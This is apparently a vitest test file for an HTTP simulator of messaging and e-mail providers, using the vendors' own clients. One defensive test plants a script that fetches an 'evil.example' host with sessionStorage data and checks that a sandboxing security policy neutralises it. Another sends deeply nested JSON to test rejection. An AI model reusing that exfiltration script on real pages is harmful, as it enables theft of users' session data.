// The simulator over HTTP, with the vendors' own clients on the other side where there are some.
import { createHmac } from "node:crypto";
import { readFileSync } from "node:fs";
import { Hono } from "hono";
import Mailgun from "mailgun.js";
import { Errors, ServerClient } from "postmark";
import { Resend } from "resend";
import Retell from "retell-sdk";
import { describe, expect, onTestFinished, test } from "vitest";
import { simulatorRoutes } from "../../src/simulator/routes.ts";
import { serve } from "./serve.ts";
import { person, phoneNumberId, secrets, templateMessage, textMessage, world } from "./world.ts";

const testKey = "nxr_test_abc";
const missing = { path: "", headers: new Headers(), body: "" };

/** A gateway that is nothing but the simulator of workspace `w1`, under a path of its own. */
function gateway() {
  const { simulator, deliveries, answers, pass, ...rest } = world();
  const jumps: [string, number][] = [];
  const app = new Hono().route(
    "/simulator",
    simulatorRoutes({
      authenticate: async (request) =>
        request.headers.get("x-api-key") === testKey ? { workspaceId: "w1" } : null,
      isTestWorkspace: async (id) => id === "w1",
      simulator: () => ({
        fetch: (request) => simulator.fetch(request),
        view: async () => simulator.view(),
        receive: (reply) => simulator.receive(reply),
        tapProblem: async (reply) => simulator.tapProblem(reply),
        say: (word) => simulator.say(word),
        act: (done) => simulator.act(done),
        set: async (switches) => simulator.set(switches),
        advance: async (seconds) => simulator.advance(seconds),
        addFault: async (fault) => simulator.addFault(fault),
        addTemplate: async (template) => simulator.addTemplate(template),
        forget: async () => simulator.forget(),
      }),
      clockJumped: async (workspaceId, seconds) => {
        jumps.push([workspaceId, seconds]);
      },
    }),
  );
  const control = (method: string, path: string, body?: unknown, key = testKey) =>
    app.request(`/simulator/api${path}`, {
      method,
      headers: { "x-api-key": key },
      ...(body === undefined
        ? {}
        : { body: typeof body === "string" ? body : JSON.stringify(body) }),
    });
  const state = async () =>
    (await (await control("GET", "/state")).json()) as ReturnType<typeof rest.view>;
  return { app, control, state, deliveries, answers, jumps, pass };
}

/** JSON lists in lists. */
const nested = (levels: number): string => "[".repeat(levels) + "]".repeat(levels);

async function served() {
  const made = gateway();
  const server = await serve((request) => made.app.fetch(request));
  onTestFinished(server.close);
  return { ...made, providers: `${server.url}/simulator/providers/w1` };
}

describe("the control API", () => {
  test.each([
    ["GET", "/state"],
    ["DELETE", "/state"],
    ["POST", "/replies"],
    ["POST", "/faults"],
    ["POST", "/templates"],
    ["POST", "/events"],
    ["PUT", "/switches"],
    ["POST", "/clock"],
  ])("refuses %s %s without a test key", async (method, path) => {
    const response = await gateway().control(method, path, undefined, "nxr_live_abc");
    expect(response.status).toBe(401);
    expect(await response.json()).toMatchObject({ error: "Invalid API key" });
  });

  test("shows an empty world in full", async () => {
    const { control, state } = gateway();
    const empty = { success: true, phone: [], mailbox: [], calls: [], faults: [] };
    expect(await state()).toMatchObject(empty);
    expect((await state()).templates).toHaveLength(5);
    expect((await control("GET", "/state")).headers.get("cache-control")).toBe("no-store");
  });

  test("delivers a reply to the receiver of the number, signed by Meta's rule", async () => {
    const { control, state, deliveries } = gateway();
    const reply = {
      phone_number_id: phoneNumberId,
      from: person,
      text: "¿Sí?",
      profile_name: "Ana",
      at: "2026-04-05T12:00:00+02:00",
    };
    const response = await control("POST", "/replies", reply);
    expect(response.status).toBe(200);
    const answer = (await response.json()) as { id: string };
    expect(answer).toEqual({ success: true, id: answer.id, delivered: { status: 200 } });

    const [{ path, headers, body } = missing] = deliveries;
    expect(path).toBe(`/hooks/meta/${phoneNumberId}`);
    expect(headers.get("content-type")).toBe("application/json");
    expect(headers.get("user-agent")).toBe("facebookexternalua");
    const mac = createHmac("sha256", secrets.meta).update(body).digest("hex");
    expect(headers.get("x-hub-signature-256")).toBe(`sha256=${mac}`);

    expect((await state()).phone).toEqual([
      {
        id: answer.id,
        at: "2026-04-05T10:00:00Z",
        direction: "written",
        phone_number_id: phoneNumberId,
        contact: person,
        type: "text",
        text: "¿Sí?",
        request: JSON.parse(body),
      },
    ]);
  });

  test("records a reply that the gateway refuses, and says so", async () => {
    const { control, state, answers } = gateway();
    answers.push(401);
    const reply = { phone_number_id: phoneNumberId, from: "12025550123", text: "Hi" };
    const response = await control("POST", "/replies", reply);
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ delivered: { status: 401 } });
    expect((await state()).phone).toHaveLength(1);
  });

  test("refuses a reply to a number without account", async () => {
    const { control, state, deliveries } = gateway();
    const response = await control("POST", "/replies", {
      phone_number_id: "nobody",
      from: person,
      text: "Hi",
    });
    expect(response.status).toBe(404);
    expect(deliveries).toEqual([]);
    expect((await state()).phone).toEqual([]);
  });

  test.each([
    ["/replies", "{"],
    ["/replies", []],
    ["/replies", { phone_number_id: phoneNumberId, from: "someone", text: "Hi" }],
    ["/replies", { phone_number_id: phoneNumberId, from: person, text: "" }],
    ["/replies", { phone_number_id: phoneNumberId, from: person, text: "Hi", at: "yesterday" }],
    ["/replies", { phone_number_id: phoneNumberId, text: "from nobody" }],
    ["/replies", { phone_number_id: phoneNumberId, from: person, type: "button" }],
    ["/replies", { phone_number_id: phoneNumberId, user_id: "me", text: "Hi" }],
    ["/events", { kind: "read", call_id: "x" }],
    ["/clock", { advance_seconds: -1 }],
    ["/faults", { provider: "meta" }],
    ["/templates", { name: "Upper Case", language: "en", components: [] }],
    ["/templates", { name: "a", language: "en", components: [{ type: "FOOTER", text: "x" }] }],
  ])("refuses POST %s with %j", async (path, body) => {
    const response = await gateway().control("POST", path, body);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ error: "Validation error" });
  });

  test.each([
    ["/faults", `{"provider":"meta","fault":{"kind":"status","status":200,"body":{"a":_}}}`],
    ["/templates", `{"name":"a","language":"en","components":[{"type":"BODY","text":"x","a":_}]}`],
  ])("refuses POST %s with what is nested too deeply to be shown again", async (path, body) => {
    const { control, state } = gateway();
    const before = await state();
    const response = await control("POST", path, body.replace("_", nested(30_000)));
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ error: "Validation error" });
    expect(await state()).toEqual({ ...before, now: expect.any(String) });
    expect((await control("POST", path, body.replace("_", nested(20)))).status).toBe(201);
  });

  test("adds templates, a fault, and forgets them", async () => {
    const { control, state } = gateway();
    const template = {
      name: "hello_world",
      language: "en_US",
      components: [{ type: "BODY", text: "Replaced" }],
    };
    expect((await control("POST", "/templates", template)).status).toBe(201);
    const fault = { provider: "retell", fault: { kind: "drop" } };
    expect((await control("POST", "/faults", fault)).status).toBe(201);
    const after = await state();
    expect(after.templates).toHaveLength(5);
    expect(after.templates[0]).toMatchObject(template);
    expect(after.faults).toEqual([{ provider: "retell", times: 1, fault: { kind: "drop" } }]);
    expect((await control("DELETE", "/state")).status).toBe(200);
    expect((await state()).faults).toEqual([]);
    expect((await state()).templates[0]).not.toMatchObject(template);
  });
});

describe("the control API of what comes back", () => {
  test("sets all switches at once: what is not named is as it was at first", async () => {
    const { control, state } = gateway();
    expect((await control("PUT", "/switches", { read: false, seed: 7 })).status).toBe(200);
    expect((await state()).switches).toMatchObject({ read: false, open: true, seed: 7 });
    await control("PUT", "/switches", { answer_call: "miss" });
    expect((await state()).switches).toMatchObject({ read: true, answer_call: "miss", seed: 1 });
    expect((await control("PUT", "/switches", { speed: 1 })).status).toBe(400);
    expect((await state()).switches).toMatchObject({ answer_call: "miss" });
  });

  test("tells events of people, and refuses those that cannot be", async () => {
    const { app, control, pass, state, deliveries } = gateway();
    const call = { from_number: "+12025550100", to_number: person };
    await app.request("/simulator/providers/w1/retell/v2/create-phone-call", {
      method: "POST",
      headers: { authorization: "Bearer key_x" },
      body: JSON.stringify(call),
    });
    const call_id = (await state()).calls[0]?.["call_id"];
    const miss = await control("POST", "/events", { kind: "miss", call_id });
    expect(await miss.json()).toEqual({ success: true, delivered: { status: 200 } });
    await pass(1_000);
    expect(deliveries).toHaveLength(2);
    expect((await control("POST", "/events", { kind: "miss", call_id })).status).toBe(409);
    expect((await control("POST", "/events", { kind: "miss", call_id: "x" })).status).toBe(404);
  });

  test("jumps the clock on both sides", async () => {
    const { control, state, jumps } = gateway();
    const response = await control("POST", "/clock", { advance_seconds: 90_000 });
    expect(await response.json()).toEqual({ success: true, now: "2026-04-06T15:30:00Z" });
    expect(jumps).toEqual([["w1", 90_000]]);
    expect((await state()).now).toBe("2026-04-06T15:30:00Z");
  });
});

describe("the providers over HTTP", () => {
  test("are there for test workspaces only", async () => {
    const { app } = gateway();
    const post = (path: string) => app.request(`/simulator/providers/${path}`, { method: "POST" });
    expect((await post("w2/meta/1/messages")).status).toBe(404);
    expect((await post("w1/fax/1/messages")).status).toBe(404);
    expect((await post("w1/meta/1/messages")).status).toBe(401);
  });

  test("serve Resend's own client", async () => {
    const { providers, state } = await served();
    const resend = new Resend("re_x", { baseUrl: `${providers}/email` });
    const email = {
      from: "Acme <hello@example.com>",
      to: "john@example.com",
      subject: "Hello",
      html: "<p>Hi</p>",
      tags: [{ name: "message_id", value: "m1" }],
    };
    const first = await resend.emails.send(email, { idempotencyKey: "key-1" });
    expect(first.error).toBeNull();
    expect((await state()).mailbox).toMatchObject([
      { id: first.data?.id, subject: "Hello", html: "<p>Hi</p>", idempotency_key: "key-1" },
    ]);
    expect((await resend.emails.send(email, { idempotencyKey: "key-1" })).data).toEqual(first.data);
    const other = { ...email, subject: "Other" };
    const conflict = await resend.emails.send(other, { idempotencyKey: "key-1" });
    expect(conflict.error).toMatchObject({ name: "invalid_idempotent_request", statusCode: 409 });
    const { data } = await resend.domains.list();
    expect(data?.data.map(({ name }) => name)).toContain("example.com");
  });

  test("serve Retell's own client", async () => {
    const { providers, state } = await served();
    const retell = new Retell({ apiKey: "key_x", baseURL: `${providers}/retell`, maxRetries: 0 });
    const call = await retell.call.createPhoneCall({
      from_number: "+12025550100",
      to_number: person,
      metadata: { message_id: "m1" },
      agent_override: { retell_llm: { begin_message: "Hi Carlos" } },
    });
    expect(call.call_status).toBe("registered");
    expect((await state()).calls).toMatchObject([{ call_id: call.call_id, greeting: "Hi Carlos" }]);
    expect(await retell.call.retrieve(call.call_id)).toEqual(call);
    const found = await retell.call.list({
      filter_criteria: {
        metadata: [{ key: "message_id", type: "string", op: "eq", value: "m1" }],
      },
    });
    expect(found.items).toEqual([call]);
    expect(await retell.agent.retrieve("agent_x")).toMatchObject({ agent_id: "agent_x" });
    expect((await retell.concurrency.retrieve()).concurrency_limit).toBe(20);
    await expect(retell.call.retrieve("nope")).rejects.toThrow(Retell.UnprocessableEntityError);
  });

  test("send a client of Meta on to the next page at the same place", async () => {
    const { providers } = await served();
    const headers = { authorization: "Bearer EAAx" };
    const first = `${providers}/meta/v25.0/1/message_templates?limit=4`;
    const { paging } = (await (await fetch(first, { headers })).json()) as {
      paging: { next: string };
    };
    expect(paging.next.startsWith(`${providers}/meta/v25.0/1/message_templates?`)).toBe(true);
    const second = (await (await fetch(paging.next, { headers })).json()) as { data: unknown[] };
    expect(second.data).toHaveLength(1);
  });

  test("refuse what is nested too deeply to be shown again", async () => {
    const { app, state } = gateway();
    const numbers = '"from_number":"+12025550100","to_number":"+12025550101"';
    const call = (metadata: string) =>
      app.request("/simulator/providers/w1/retell/v2/create-phone-call", {
        method: "POST",
        headers: { authorization: "Bearer key_1" },
        body: `{${numbers},"metadata":${metadata}}`,
      });
    expect((await call(`{"a":${nested(30_000)}}`)).status).toBe(400);
    expect((await state()).calls).toEqual([]);
    expect((await call(`{"a":${nested(20)}}`)).status).toBe(201);
  });

  test("answer with no page that a browser would run, whatever a fault says", async () => {
    const { app, control } = gateway();
    const page = "<script>fetch('https://evil.example/' + sessionStorage.key)</script>";
    const headers = { "content-type": "text/html", "Content-Security-Policy": "script-src *" };
    const fault = { kind: "status", status: 200, body: page, headers };
    expect((await control("POST", "/faults", { provider: "meta", fault })).status).toBe(201);
    const answer = await app.request("/simulator/providers/w1/meta/v25.0/1");
    expect(await answer.text()).toBe(page);
    expect(answer.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
  });

  test("take Meta's messages, and break connections when asked", async () => {
    const { providers, control, state } = await served();
    const send = (body: unknown) =>
      fetch(`${providers}/meta/v25.0/${phoneNumberId}/messages`, {
        method: "POST",
        headers: { authorization: "Bearer EAAx", "content-type": "application/json" },
        body: JSON.stringify(body),
      }).then((response) => response.text());
    await control("POST", "/faults", { provider: "meta", fault: { kind: "drop" } });
    await expect(send(templateMessage("hello_world", "en_US"))).rejects.toThrow();
    expect(await send(templateMessage("hello_world", "en_US"))).toContain("wamid.");
    expect(await send(textMessage())).toContain("131047");
    expect((await state()).phone).toHaveLength(1);
  });
});

describe("the page", () => {
  test("runs its own script only, and shows what misbehaves", async () => {
    const response = await gateway().app.request("/simulator");
    const html = await response.text();
    const policy = response.headers.get("content-security-policy") ?? "";
    const nonce = /script-src 'nonce-([^']+)'/.exec(policy)?.[1] ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(html.match(/<script\b[^>]*>/g)).toEqual([`<script nonce="${nonce}">`]);
    expect(html).not.toMatch(/\son\w+=|javascript:/);
    expect(html).toContain("a number ending in 131026");
  });

  test("never makes markup of what people sent", () => {
    const script = readFileSync("src/simulator/page-script.ts", "utf8");
    expect(script).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(/);
    expect(script).toContain('sandbox: ""');
  });
});

describe("the carriers of e-mail over HTTP", () => {
  test("serve Postmark's own client", async () => {
    const { providers, state } = await served();
    const { host, pathname } = new URL(`${providers}/postmark`);
    const client = (token: string) =>
      new ServerClient(token, { requestHost: host + pathname, useHttps: false });
    const people = { From: "hello@example.com", To: "john@example.com" };
    const mail = { ...people, Subject: "Hello", TextBody: "Hi" };
    const sent = await client("srv-token").sendEmail({ ...mail, Metadata: { a: "b" } });
    expect(sent).toMatchObject({ ErrorCode: 0, To: "john@example.com" });
    expect((await state()).mailbox).toMatchObject([{ id: sent.MessageID, text: "Hi" }]);
    expect(await client("srv-token").getServer()).toMatchObject({ DeliveryType: "Live" });
    const refused = (change: object, token = "srv-token") =>
      client(token).sendEmail({ ...mail, ...change });
    await expect(refused({}, "invalid")).rejects.toThrow(Errors.InvalidAPIKeyError);
    const inactive = refused({ To: "suppressed@example.com" });
    await expect(inactive).rejects.toThrow(Errors.InactiveRecipientsError);
    await expect(inactive).rejects.toMatchObject({ recipients: ["suppressed@example.com"] });
    await expect(refused({ To: "nobody" })).rejects.toThrow(Errors.InvalidEmailRequestError);
    await expect(refused({ To: "rate-limited@example.com" })).rejects.toThrow(
      Errors.RateLimitExceededError,
    );
    await expect(refused({ To: "broken@example.com" })).rejects.toThrow(Errors.InternalServerError);
  });

  test("serve Mailgun's own client", async () => {
    const { providers, state } = await served();
    const client = (key: string) =>
      new Mailgun(FormData).client({ username: "api", key, url: `${providers}/mailgun` });
    const send = (to: string, key = "key-x") =>
      client(key).messages.create("mg.example.com", {
        from: "Acme <hello@example.com>",
        to,
        subject: "Hello",
        text: "Grüße 👋",
        "v:message_id": "m1",
      });
    const sent = await send("john@example.com");
    expect(sent).toMatchObject({ status: 200, message: "Queued. Thank you." });
    expect((await state()).mailbox).toMatchObject([
      { id: sent.id?.slice(1, -1), text: "Grüße 👋", request: { "v:message_id": "m1" } },
    ]);
    expect(await client("key-x").domains.get("mg.example.com")).toMatchObject({ state: "active" });
    await expect(send("john@example.com", "invalid")).rejects.toMatchObject({ status: 401 });
    await expect(send("nobody")).rejects.toMatchObject({ status: 400 });
    await expect(send("rate-limited@example.com")).rejects.toMatchObject({ status: 429 });
  });
});
